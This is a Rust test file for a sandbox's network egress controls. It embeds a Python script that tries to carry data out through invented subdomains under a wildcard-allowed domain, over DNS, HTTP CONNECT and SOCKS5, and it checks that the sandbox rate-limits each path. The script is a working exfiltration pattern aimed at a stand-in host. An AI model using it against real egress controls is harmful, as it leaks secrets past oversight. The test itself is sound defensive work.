//! Names made up below a wildcard, to carry data out.

use crate::support::{sandbox, world};
use std::collections::BTreeSet;

crate::attacks! {
    names_made_up_below_a_wildcard_leave_within_a_budget_on_every_path,
}

/// Makes names up below a wildcard on every path that resolves, and says how each path ended.
const MADE_UP: &str = "
import socket, struct
def question(name):
    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0\\0\\1\\0\\1'
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(30)
def dns(name):
    udp.sendto(question(name), ('10.0.2.3', 53))
    return udp.recv(4096)[3] & 15
def proxy(port, message, size):
    # Exactly this many bytes, however many segments they come in.
    with socket.create_connection(('10.0.2.2', port), 30) as stream:
        stream.sendall(message)
        with stream.makefile('rb') as answer:
            return answer.read(size)
def connect(name):
    return proxy(3128, f'CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n'.encode(), 12)[9:].decode()
def socks(name):
    name = name.encode()
    # Two bytes choose the method, ten refuse the request.
    return proxy(1080, b'\\5\\1\\0\\5\\1\\0\\3' + bytes([len(name)]) + name + b'\\1\\xbb', 12)[3]
for n in range(130):
    last = dns(f'secret{n}.wild.example.com')
print('dns', last, 'connect', connect('secret-c.wild.example.com'), 'socks', socks('secret-s.wild.example.com'),
      'known', dns('secret3.wild.example.com'), 'listed', dns('api.example.com'))
";

fn names_made_up_below_a_wildcard_leave_within_a_budget_on_every_path() {
    let world = world();
    let ran = sandbox(&world)
        .allow("*.wild.example.com")
        .allow("api.example.com")
        .python(MADE_UP);
    ran.assert_ok()
        .assert_out("dns 2 connect 429 socks 2 known 3 listed 0");
    let asked: BTreeSet<String> = world
        .dns_log()
        .into_iter()
        .map(|query| query.name.to_ascii_lowercase())
        .filter(|name| name.contains("wild"))
        .collect();
    assert_eq!(asked.len(), 120, "{asked:?}");
    let refused = ran.records.all_denials();
    assert!(
        refused
            .iter()
            .all(|record| record["reason"] == "rate-limited")
    );
    for (protocol, denials) in [("dns-udp", 10), ("connect", 1), ("socks5", 1)] {
        let found = refused
            .iter()
            .filter(|record| record["protocol"] == protocol);
        assert_eq!(found.count(), denials, "{protocol}: {ran}");
    }
}
